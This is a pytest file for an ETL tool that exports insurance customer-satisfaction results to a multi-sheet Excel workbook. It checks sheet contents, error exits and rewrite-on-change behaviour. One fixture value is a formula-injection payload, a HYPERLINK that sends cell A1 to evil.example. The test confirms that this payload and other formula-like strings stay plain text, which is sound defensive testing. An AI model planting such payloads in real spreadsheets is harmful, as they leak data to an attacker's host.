"""`satisfaction-report export`: the analyst's workbook, read back with openpyxl."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from etl.cli import main
from etl.core.results import ResultRow
from etl.pipeline.export import stored_identifier
from etl.warehouse import apply_store_schema, replace_results, store_actions

QUARTER = "2026-Q3"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"SC")'
SHEETS = [
    "Summary 摘要", "Dimensions 维度", "Items 题项", "Drivers 驱动因素", "KPIs 运营指标",
    "Linkage 关联分析", "Segments 细分", "Voice 客户之声", "Actions 改进措施", "Method 方法",
    "Results 全部结果", "Definitions 定义",
]  # fmt: skip
ROWS = [
    ResultRow(QUARTER, "company", "respondents", 1200.0, n=1200),
    ResultRow(QUARTER, "company", "csi", 78.4, 77.9, 78.9, 1200, 980.5),
    ResultRow(QUARTER, "company", "nps", 21.0, 17.0, 25.0, 1200, 980.5),
    ResultRow(QUARTER, "SC", "respondents", 269.0, n=269),
    ResultRow(QUARTER, "SC", "csi", 75.1, 74.0, 76.2, 269, 230.0),
    ResultRow(QUARTER, "SC", "claim_cycle_days_mean", 6.8, n=412),
    ResultRow(QUARTER, "SC", "rag.claim_cycle_days_mean", 10.0, n=412, note="red"),
    ResultRow(QUARTER, "channel.TELE", "csi", 70.2, n=150),
    ResultRow(QUARTER, "company", "lineage.policies.rows", 50000.0, n=50000),
    ResultRow(QUARTER, "SC", "item.claims.q1", 74.0, n=260, note="+SUM(A1:A9)"),
]


@pytest.fixture
def computed(warehouse: Engine) -> Engine:
    """A warehouse whose branch SC is named like a formula, and a quarter's stored results."""
    apply_store_schema(warehouse)
    with warehouse.begin() as conn:
        conn.execute(
            sa.text("insert into branches values ('SC', :name, :name, '西南', 'Southwest')"),
            {"name": INJECTION},
        )
        replace_results(conn, QUARTER, ROWS, "run-1", ["company", "SC", "channel.TELE"])
        store_actions(conn, QUARTER, [{
            "action_id": f"{QUARTER}-SC-claim_cycle_days_mean", "quarter_raised": QUARTER,
            "scope": "SC", "subject": "claim_cycle_days_mean", "reason": "red_kpi",
            "current_value": 6.8, "department": "@理赔管理部", "owner": "-Head of Claims",
            "due_on": "2026-12-31", "target_metric": "claim_cycle_days_mean",
            "target_value": 5.0, "is_higher_better": False,
        }])  # fmt: skip
    return warehouse


def export(engine: Engine, *args: str) -> int:
    url = engine.url.render_as_string(hide_password=False)
    return main(["export", "--quarter", QUARTER, "--warehouse", url, *args])


def test_every_sheet_is_present_and_formula_like_text_stays_text(
    computed: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "out" / "results.xlsx"
    assert export(computed, "--output", str(target)) == 0
    assert capsys.readouterr().out.strip() == str(target)
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == SHEETS
    summary = {row[0]: row for row in book["Summary 摘要"].iter_rows(min_row=2, values_only=True)}
    header = [cell.value for cell in book["Summary 摘要"][1]]
    assert summary["SC"][header.index("csi")] == pytest.approx(75.1)
    assert summary["SC"][header.index("name_en")] == INJECTION
    texts = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]
    assert {cell.value for cell in texts} >= {
        INJECTION,
        "+SUM(A1:A9)",
        "@理赔管理部",
        "-Head of Claims",
    }
    assert all(cell.data_type == "s" for cell in texts)  # text cells, never formulas
    results = list(book["Results 全部结果"].iter_rows(min_row=2, values_only=True))
    assert len(results) == len(ROWS)
    definitions = [
        row[0] for row in book["Definitions 定义"].iter_rows(min_row=2, values_only=True)
    ]
    assert {"csi", "nps", "claim_cycle_days_mean"} <= set(definitions)
    assert not [p for p in target.parent.iterdir() if p.name.startswith(".")]  # no temp left


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--quarter", "2026-Q2"], "quarter 2026-Q2 has no stored results to export"),
        (["--quarter", "2026-Q7"], "is not a quarter"),
    ],
)
def test_bad_input_exits_2_with_a_clear_message(
    computed: Engine, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    assert export(computed, *args) == 2
    assert message in capsys.readouterr().err


CORRECTED = [*ROWS[:1], ResultRow(QUARTER, "company", "csi", 78.6, 78.1, 79.1, 1200, 980.5)]


@pytest.mark.parametrize(
    ("change", "rewritten"),
    [
        ("nothing", False),
        ("a stored result corrected", True),
        ("the same figures stored by another run", True),  # the Results sheet shows run ids
        ("the file damaged", True),
    ],
)
def test_a_workbook_is_written_again_only_when_its_inputs_changed(
    computed: Engine, tmp_path: Path, change: str, rewritten: bool
) -> None:
    target = tmp_path / "results.xlsx"
    assert export(computed, "--output", str(target)) == 0
    first = target.stat().st_ino, stored_identifier(target)
    if change == "a stored result corrected":
        with computed.begin() as conn:
            replace_results(conn, QUARTER, [*ROWS[2:], *CORRECTED], "run-1", ["company"])
    elif change == "the same figures stored by another run":
        with computed.begin() as conn:
            replace_results(conn, QUARTER, ROWS, "run-2", ["company", "SC", "channel.TELE"])
    elif change == "the file damaged":
        target.write_bytes(target.read_bytes()[:1000])
    assert export(computed, "--output", str(target)) == 0
    second = target.stat().st_ino, stored_identifier(target)
    assert (second != first) is rewritten
    assert second[1] is not None and second[1].startswith("sha256:")
    openpyxl.load_workbook(target)  # whole and readable either way
